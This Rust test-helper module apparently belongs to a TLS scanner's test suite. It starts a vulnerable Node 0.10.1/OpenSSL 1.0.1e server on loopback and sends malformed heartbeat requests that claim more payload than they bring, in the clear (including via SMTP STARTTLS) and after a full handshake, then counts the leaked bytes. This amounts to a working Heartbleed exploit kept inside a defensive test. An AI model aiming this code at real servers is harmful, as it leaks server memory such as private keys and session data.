//! The thief. He asks only servers that the test has started itself, on loopback.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use holter_handshake::{Offer, handshake};
use holter_lab::node::{NodeServer, serve};
use holter_lab::{Server, ports};
use holter_model::seam::SystemDice;
use holter_model::{Endpoint, Transport};
use holter_net::{Care, Dialer, Limits, Pace, Scope};
use holter_wire::client_hello::ClientHello;
use holter_wire::extension::Extension;
use holter_wire::record::Deframer;
use holter_wire::{CipherSuite, ContentType, Version};

use crate::tap::{Piece, Tap};

/// What the thief sent and what he got.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Loot {
    pub(crate) requests: u64,
    pub(crate) answers: u64,
    /// Bytes of payload that he had not brought.
    pub(crate) foreign: u64,
}

/// Node 0.10.1, which has OpenSSL 1.0.1e with heartbeats.
pub(crate) fn node(protocol: &str) -> Server {
    old_node("0.10.1", protocol)
}

pub(crate) fn old_node(version: &str, protocol: &str) -> Server {
    let ciphers = "ALL:!aNULL:!eNULL".to_owned();
    ports::on_a_free_port(|address| {
        let mut wanted = NodeServer::new(version, protocol, address);
        wanted.ciphers = Some(ciphers.clone());
        serve(&wanted)
    })
    .unwrap()
}

/// A heartbeat that claims so many bytes of payload and brings so many bytes behind its header.
pub(crate) fn claim(claimed: u16, brought: usize) -> Vec<u8> {
    let mut message = vec![1];
    message.extend(claimed.to_be_bytes());
    message.resize(3 + brought, 0x41);
    message
}

/// One in good order.
pub(crate) fn honest(payload: usize) -> Vec<u8> {
    let mut message = claim(u16::try_from(payload).unwrap(), payload);
    message.resize(3 + payload + 16, 0);
    message
}

/// Who says nothing for so long has no more to say, on however busy a machine.
pub(crate) const SILENCE: Duration = Duration::from_secs(2);

/// Sends all requests at once in the middle of a handshake, and takes what comes.
pub(crate) fn in_clear(
    server: SocketAddr,
    dialect: Option<&str>,
    requests: &[Vec<u8>],
) -> (Vec<Piece>, Loot) {
    in_rounds(server, dialect, &[requests])
}

/// The same, round by round: each waits until no more comes.
pub(crate) fn in_rounds(
    server: SocketAddr,
    dialect: Option<&str>,
    rounds: &[&[Vec<u8>]],
) -> (Vec<Piece>, Loot) {
    let tap = Tap::to(server);
    let mut stream = TcpStream::connect(tap.address).unwrap();
    if dialect == Some("smtp") {
        until(&mut stream, b"\n");
        for line in [&b"EHLO thief\r\n"[..], b"STARTTLS\r\n"] {
            stream.write_all(line).unwrap();
            until(&mut stream, b"\n");
        }
    }
    let mut hello = ClientHello::new(Version::TLS11, [7; 32]);
    hello.suites = vec![CipherSuite(0x002f), CipherSuite(0x0035)];
    hello.extensions = vec![Extension::heartbeat()];
    let (mut message, mut record) = (Vec::new(), Vec::new());
    hello.encode(&mut message);
    holter_wire::record::encode(&mut record, ContentType::HANDSHAKE, Version::TLS10, &message);
    stream.write_all(&record).unwrap();
    until(&mut stream, &[14, 0, 0, 0]);
    stream.set_read_timeout(Some(SILENCE)).unwrap();
    let mut deframer = Deframer::default();
    let mut buffer = vec![0; 1 << 16];
    let mut got = Vec::new();
    for requests in rounds {
        let mut records = Vec::new();
        for request in *requests {
            holter_wire::record::encode(&mut records, ContentType::HEARTBEAT, Version::TLS11, request);
        }
        stream.write_all(&records).unwrap();
        loop {
            match stream.read(&mut buffer) {
                Ok(0) => break,
                Ok(count) => deframer.push(&buffer[..count]),
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
                Err(error) => panic!("{error}"),
            }
            while let Ok(Some(record)) = deframer.next_record() {
                if record.content == ContentType::HEARTBEAT {
                    got.push(record.body.to_vec());
                }
            }
        }
    }
    drop(stream);
    (tap.finish(), count(&rounds.concat(), &got))
}

/// The same after a finished handshake, one request after the other; then it asks for something that anybody may ask for.
pub(crate) fn encrypted(
    server: SocketAddr,
    version: Version,
    suite: CipherSuite,
    requests: &[Vec<u8>],
) -> (Vec<Piece>, Loot) {
    let tap = Tap::to(server);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let mut loot = Loot::default();
    runtime.block_on(async {
        let scope = Scope::new(&["127.0.0.0/8".parse().unwrap()], &[]);
        let dialer = Dialer::new(scope, Pace::new(4, None, Duration::ZERO), Limits::default());
        let endpoint = Endpoint {
            address: tap.address.ip(),
            port: tap.address.port(),
            transport: Transport::Tcp,
        };
        let mut line = dialer.dial(endpoint, Care::ROBUST).await.unwrap();
        let mut offer = Offer::new(version);
        let suites = [suite];
        (offer.heartbeat, offer.suites) = (true, &suites);
        let mut session = handshake(&mut line, &offer, &SystemDice).await.unwrap();
        assert_eq!(session.version(), version);
        for request in requests {
            session
                .send(&mut line, ContentType::HEARTBEAT, request)
                .await
                .unwrap();
            let mut got = Vec::new();
            while let Ok((content, body)) = session.receive(&mut line, SILENCE).await {
                if content == ContentType::HEARTBEAT {
                    let more = body.len() == 1 << 14;
                    got.push(body);
                    if !more {
                        break;
                    }
                }
            }
            let one = count(std::slice::from_ref(request), &got);
            loot.requests += one.requests;
            loot.answers += one.answers;
            loot.foreign += one.foreign;
        }
        let ask = b"GET / HTTP/1.0\r\n\r\n";
        session
            .send(&mut line, ContentType::APPLICATION_DATA, ask)
            .await
            .unwrap();
        let _ = session.receive(&mut line, SILENCE).await;
    });
    (tap.finish(), loot)
}

/// What came for these requests: messages in records, of which only the first of each has a header.
pub(crate) fn count(requests: &[Vec<u8>], got: &[Vec<u8>]) -> Loot {
    let mut loot = Loot {
        requests: u64::try_from(requests.len()).unwrap(),
        ..Loot::default()
    };
    let stream: Vec<u8> = got.concat();
    let mut rest = stream.as_slice();
    for request in requests {
        let [2, high, low, ..] = rest else { break };
        let claimed = usize::from(u16::from_be_bytes([*high, *low]));
        let there = claimed.min(rest.len() - 3);
        loot.answers += 1;
        loot.foreign += u64::try_from(there.saturating_sub(request.len() - 3)).unwrap();
        rest = rest.get(3 + claimed + 16..).unwrap_or_default();
    }
    loot
}

/// Reads until these bytes have come.
fn until(stream: &mut TcpStream, end: &[u8]) {
    let mut heard = Vec::new();
    let mut buffer = [0; 4096];
    while !heard.windows(end.len()).any(|window| window == end) {
        let count = stream.read(&mut buffer).unwrap();
        assert!(count > 0, "it closed");
        heard.extend_from_slice(&buffer[..count]);
    }
}
